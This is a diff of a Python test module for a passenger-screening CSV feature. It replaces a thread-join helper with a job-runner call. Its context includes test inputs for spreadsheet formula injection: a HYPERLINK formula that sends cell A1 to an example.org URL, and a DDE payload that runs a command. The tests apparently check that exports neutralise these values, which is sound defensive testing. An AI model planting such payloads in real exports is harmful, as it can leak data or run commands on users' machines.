@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import threading
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -16,6 +15,7 @@ from polnet import cli as polnet_cli
 from polnet.screening import batch_files, batch_input, batches
 from polnet.screening.models import Hit, ScreeningBatch
 from tests.factories import Network, make_record, signed_in_client
+from tests.jobs.drive import run_jobs
 
 # Names a spreadsheet would run (a name needs a letter: "-1+1" alone is refused, not echoed).
 FORMULAS = ['=HYPERLINK("https://example.org/?"&A1,"open")', "+cmd|' /C calc'!A0", "-1+1 A", "@SUM(1+1)"]
@@ -30,10 +30,8 @@ def _passengers_csv(names: list[str]) -> bytes:
 
 
 def _finished(batch_id: int) -> ScreeningBatch:
-    """The list once its own thread is through (joined, not waited for)."""
-    for thread in threading.enumerate():
-        if thread.name == f"batch-{batch_id}":
-            thread.join(timeout=120)
+    """The list once a job worker has run every job waiting."""
+    run_jobs()
     return ScreeningBatch.objects.get(pk=batch_id)
 
 
